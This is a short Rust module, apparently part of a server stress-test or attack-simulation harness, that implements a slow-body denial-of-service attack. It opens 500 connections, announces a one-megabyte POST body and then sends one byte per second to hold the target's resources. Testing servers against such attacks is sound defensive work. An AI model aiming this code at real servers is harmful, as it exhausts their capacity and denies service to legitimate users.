//! Slowloris of the body: a large one is announced and comes at a byte a second.

use std::time::Duration;

use super::attacker::{Field, Hold};
use super::stage::ATTACKED;

pub(crate) const CONNECTIONS: u32 = 500;

pub(crate) async fn run(field: &Field) {
    let opening = format!("POST /drain HTTP/1.1\r\nHost: {ATTACKED}\r\nContent-Length: 1000000\r\n\r\n").into_bytes();
    let drip = Some((b'x', Duration::from_secs(1)));
    field.hold(Hold { connections: CONNECTIONS, opening, drip, deaf: false }).await;
}
